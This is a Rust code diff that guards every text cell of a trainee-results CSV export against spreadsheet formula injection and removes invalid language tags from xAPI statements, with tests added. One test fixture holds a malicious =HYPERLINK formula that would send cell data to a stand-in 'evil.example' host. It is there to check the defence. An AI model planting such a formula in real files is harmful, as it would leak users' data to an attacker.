@@ -35,17 +35,20 @@ pub fn csv(class: &ClassRow, trainees: &[TraineeRow], attempts: &[AttemptRow]) -
     header.extend(["respect_raw", "sincerity_raw"]);
     out.write_record(&header).map_err(|e| e.to_string())?;
     for a in attempts {
+        // Every text cell is guarded, not only the names: a scenario id,
+        // an ending or (from before languages were checked) a language
+        // from an unchecked upload is the game's word too.
         let mut row = vec![
             as_text(&class.name),
-            class.join_code.clone(),
+            as_text(&class.join_code),
             as_text(names.get(&a.trainee_id).copied().unwrap_or_default()),
-            a.scenario.clone(),
-            a.id.clone(),
-            a.finished_at.clone(),
+            as_text(&a.scenario),
+            as_text(&a.id),
+            as_text(&a.finished_at),
             a.seed.to_string(),
-            a.language.clone(),
-            a.ending.clone(),
-            a.ending_kind.clone(),
+            as_text(&a.language),
+            as_text(&a.ending),
+            as_text(&a.ending_kind),
             a.success.to_string(),
             a.over_accommodated.to_string(),
             a.verified.to_string(),
@@ -60,15 +63,16 @@ pub fn csv(class: &ClassRow, trainees: &[TraineeRow], attempts: &[AttemptRow]) -
     String::from_utf8(bytes).map_err(|e| e.to_string())
 }
 
-/// A name typed by a trainee or facilitator, kept from being read as a
-/// formula when the CSV is opened in a spreadsheet (`=HYPERLINK(...)` as a
-/// trainee's name): a leading `=`, `+`, `-`, `@`, tab or carriage return
-/// gets an apostrophe in front, as OWASP advises.
-fn as_text(name: &str) -> String {
-    if name.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{name}")
+/// A text cell, kept from being read as a formula when the CSV is opened
+/// in a spreadsheet (`=HYPERLINK(...)` as a trainee's name or a scenario
+/// id): a leading `=`, `+`, `-`, `@`, tab, carriage return or line feed
+/// gets an apostrophe in front, as OWASP advises. Numbers the hub writes
+/// itself (a negative raw total) are not text cells.
+fn as_text(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
+        format!("'{text}")
     } else {
-        name.to_owned()
+        text.to_owned()
     }
 }
 
@@ -128,7 +132,7 @@ pub fn xapi(
                 .zip(a.skills)
                 .map(|(s, p)| (s.name().to_owned(), json!(f64::from(p) / 100.0)))
                 .collect();
-            json!({
+            let mut statement = json!({
                 "id": a.id,
                 "version": "1.0.3",
                 "actor": {
@@ -167,7 +171,111 @@ pub fn xapi(
                     "extensions": {ext("seed"): a.seed.to_string()},
                 },
                 "timestamp": a.finished_at,
-            })
+            });
+            // xAPI wants an RFC 5646 tag there; an attempt stored before
+            // uploads' languages were checked may carry anything.
+            if !crate::is_language_tag(&a.language)
+                && let Some(context) = statement["context"].as_object_mut()
+            {
+                context.remove("language");
+            }
+            statement
         })
         .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use callsim_core::wire::Mode;
+
+    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+
+    fn formula_everywhere() -> (ClassRow, Vec<TraineeRow>, Vec<AttemptRow>) {
+        let class = ClassRow {
+            id: 1,
+            join_code: FORMULA.into(),
+            name: FORMULA.into(),
+            mode: Mode::Practice,
+            secret_hash: String::new(),
+            scenarios: Vec::new(),
+            created_at: "2026-12-01T09:00:00.000000Z".into(),
+        };
+        let trainee = TraineeRow {
+            id: 7,
+            class_id: 1,
+            name: FORMULA.into(),
+            joined_at: "2026-12-01T09:00:00.000000Z".into(),
+        };
+        let pillar = PillarScore {
+            percent: 40,
+            raw: -3,
+            worst: -10,
+            best: 8,
+        };
+        let attempt = AttemptRow {
+            id: FORMULA.into(),
+            trainee_id: 7,
+            class_id: 1,
+            scenario: FORMULA.into(),
+            seed: 1,
+            language: FORMULA.into(),
+            body: String::new(),
+            verified: false,
+            ending: FORMULA.into(),
+            ending_kind: FORMULA.into(),
+            over_accommodated: false,
+            success: false,
+            respect: pillar,
+            sincerity: pillar,
+            skills: [40; 4],
+            finished_at: FORMULA.into(),
+            received_at: FORMULA.into(),
+        };
+        (class, vec![trainee], vec![attempt])
+    }
+
+    #[test]
+    fn no_text_cell_of_the_csv_starts_a_formula() {
+        let (class, trainees, attempts) = formula_everywhere();
+        let text = csv(&class, &trainees, &attempts).expect("a csv");
+        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
+        let headers = reader.headers().expect("a header").clone();
+        let row = reader.records().next().expect("a row").expect("readable");
+        let mut guarded = 0;
+        for (name, cell) in headers.iter().zip(row.iter()) {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r']),
+                "{name} would run as a formula: {cell}"
+            );
+            if cell == format!("'{FORMULA}") {
+                guarded += 1;
+            }
+        }
+        assert_eq!(
+            guarded, 9,
+            "class, join code, trainee, scenario, attempt id, finished_at, language, ending, ending kind:\n{text}"
+        );
+        // Numbers the hub writes stay numbers.
+        let raw = headers.iter().position(|h| h == "respect_raw").expect("a column");
+        assert_eq!(&row[raw], "-3");
+    }
+
+    #[test]
+    fn a_stored_language_that_is_no_tag_stays_out_of_the_xapi_context() {
+        let (class, trainees, attempts) = formula_everywhere();
+        let statements = xapi(
+            &class,
+            &trainees,
+            &attempts,
+            &HubScenarios::default(),
+            "http://hub",
+        );
+        assert!(
+            statements[0]["context"].get("language").is_none(),
+            "{}",
+            statements[0]
+        );
+        assert_eq!(statements[0]["context"]["platform"], "callsim");
+    }
 }
